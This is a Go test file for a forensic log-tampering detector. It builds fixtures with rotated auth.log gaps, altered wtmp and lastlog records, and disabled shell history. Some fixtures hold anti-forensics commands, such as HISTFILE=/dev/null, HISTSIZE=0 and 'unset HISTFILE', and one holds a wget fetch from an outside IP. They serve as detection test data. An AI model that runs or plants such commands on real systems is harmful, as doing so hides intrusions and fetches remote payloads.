package logs

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/logs/rules"
	"github.com/vigil-ir/vigil/internal/logs/utmptest"
	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/testutil"
)

// authDay is auth.log in rsyslog's RFC 3339 stamps: a cron session every
// step from start, n lines.
func authDay(start time.Time, n int, step time.Duration) string {
	var b strings.Builder
	for i := range n {
		t := start.Add(time.Duration(i) * step)
		fmt.Fprintf(&b, "%s web1 CRON[%d]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)\n", t.Format("2006-01-02T15:04:05.000000-07:00"), 100+i)
	}
	return b.String()
}

func gzText(_ *testing.T, s string) []byte { return utmptest.Gzip([]byte(s)) }

// writeFiles adds binary files to a fixture root.
func writeFiles(t *testing.T, root string, files map[string][]byte) {
	t.Helper()
	for name, data := range files {
		p := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

var day0 = time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC)

// rotatedAuth is a week of auth.log in four files, oldest .3.gz, and the
// files as the map to write; drop names a file to leave out, cut cuts one.
func rotatedAuth(t *testing.T, drop, cut string) map[string][]byte {
	files := map[string][]byte{}
	names := []string{"var/log/auth.log.3.gz", "var/log/auth.log.2.gz", "var/log/auth.log.1", "var/log/auth.log"}
	for i, name := range names {
		text := authDay(day0.Add(time.Duration(i)*24*time.Hour), 144, 10*time.Minute)
		if name == cut {
			text = text[:len(text)-30]
		}
		data := []byte(text)
		if strings.HasSuffix(name, ".gz") {
			data = gzText(t, text)
			if name == cut {
				data = gzText(t, text)[:len(data)/2]
			}
		}
		if name != drop {
			files[name] = data
		}
	}
	return files
}

// wtmp is a month of logins: a boot, then a login and logout of deploy a day.
func wtmp(extra ...utmptest.Rec) []utmptest.Rec {
	recs := []utmptest.Rec{utmptest.R(2, 0, "~", "reboot", "6.1.0-27-amd64", day0.Add(-time.Hour))}
	for d := range 7 {
		at := day0.Add(time.Duration(d)*24*time.Hour + 9*time.Hour)
		recs = append(recs, utmptest.R(7, int32(900+d), "pts/0", "deploy", "10.0.0.5", at), utmptest.R(8, int32(900+d), "pts/0", "", "", at.Add(time.Hour)))
	}
	return append(recs, extra...)
}

const debianBashrc = `# ~/.bashrc: executed by bash(1) for non-login shells.
case $- in
    *i*) ;;
      *) return;;
esac
HISTCONTROL=ignoreboth
shopt -s histappend
# for setting history length see HISTSIZE and HISTFILESIZE in bash(1)
HISTSIZE=1000
HISTFILESIZE=2000
`

func TestLogsTamperRules(t *testing.T) {
	lastDeploy := day0.Add(6*24*time.Hour + 9*time.Hour)
	tests := []struct {
		name  string
		txtar string
		files map[string][]byte
		want  string // rule id; "" for a clean root
		sev   model.Severity
	}{
		{"clean", "-- root/.bashrc --\n" + debianBashrc + "-- root/.bash_history --\nls\n", merge(rotatedAuth(t, "", ""), map[string][]byte{
			"var/log/wtmp":    utmptest.Encode(wtmp()...),
			"var/log/lastlog": utmptest.Lastlog(map[uint32]utmptest.Rec{1000: utmptest.R(7, 0, "pts/0", "deploy", "10.0.0.5", lastDeploy)}),
		}), "", 0},
		{"rotation missing", "", rotatedAuth(t, "var/log/auth.log.2.gz", ""), rules.RuleRotationMissing, model.Medium},
		{"rotated file cut mid-line", "", rotatedAuth(t, "", "var/log/auth.log.1"), rules.RuleRotationCut, model.Medium},
		{"compressed rotation cut", "", rotatedAuth(t, "", "var/log/auth.log.2.gz"), rules.RuleRotationCut, model.Medium},
		{"hole at a rotation", "", map[string][]byte{
			"var/log/auth.log.1": []byte(authDay(day0, 144, time.Minute)),
			"var/log/auth.log":   []byte(authDay(day0.Add(3*24*time.Hour), 144, time.Minute)),
		}, rules.RuleTimeGap, model.Medium},
		{"wtmp zeroed", "", map[string][]byte{"var/log/wtmp": utmptest.Encode(wtmp(utmptest.Rec{Type: -1}, utmptest.Rec{Type: -1},
			utmptest.R(7, 990, "pts/1", "deploy", "10.0.0.5", day0.Add(7*24*time.Hour)))...)}, rules.RuleUtmpZeroed, model.High},
		{"wtmp backwards", "", map[string][]byte{"var/log/wtmp": utmptest.Encode(wtmp(
			utmptest.R(7, 991, "pts/1", "deploy", "203.0.113.9", day0.Add(2*24*time.Hour)))...)}, rules.RuleUtmpBackwards, model.Medium},
		{"wtmp login removed", "", map[string][]byte{
			"var/log/wtmp":    utmptest.Encode(wtmp()...),
			"var/log/lastlog": utmptest.Lastlog(map[uint32]utmptest.Rec{1000: utmptest.R(7, 0, "pts/3", "deploy", "203.0.113.9", day0.Add(5*24*time.Hour+3*time.Hour))}),
		}, rules.RuleUtmpRemoved, model.High},
		{"history linked to /dev/null", "-- root/.bash_history -> /dev/null --\n", nil, rules.RuleHistoryOff, model.High},
		{"HISTFILE=/dev/null in .bashrc", "-- home/deploy/.bashrc --\n" + debianBashrc + "export HISTFILE=/dev/null\n", nil, rules.RuleHistoryOff, model.Medium},
		{"HISTSIZE=0 in /etc/profile.d", "-- etc/profile.d/zz.sh --\nexport HISTSIZE=0\n", nil, rules.RuleHistoryOff, model.Medium},
		{"unset HISTFILE typed", "-- home/deploy/.bash_history --\nid\nunset HISTFILE\nwget http://203.0.113.9/x\n", nil, rules.RuleHistoryOff, model.Medium},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := testutil.RootFromString(t, rootFiles+tc.txtar)
			writeFiles(t, r, tc.files)
			res := enginetest.Run(t, New(Options{}), r, false)
			if tc.want == "" {
				enginetest.Quiet(t, res.Findings, model.Low)
				return
			}
			got := res.Find(tc.want)
			if len(got) == 0 {
				t.Fatalf("%s did not fire: %v", tc.want, res.Rules())
			}
			if got[0].Severity != tc.sev || got[0].Evidence.Path == "" {
				t.Errorf("grade %v, evidence %+v", got[0].Severity, got[0].Evidence)
			}
		})
	}
}

func merge(ms ...map[string][]byte) map[string][]byte {
	out := map[string][]byte{}
	for _, m := range ms {
		for k, v := range m {
			out[k] = v
		}
	}
	return out
}
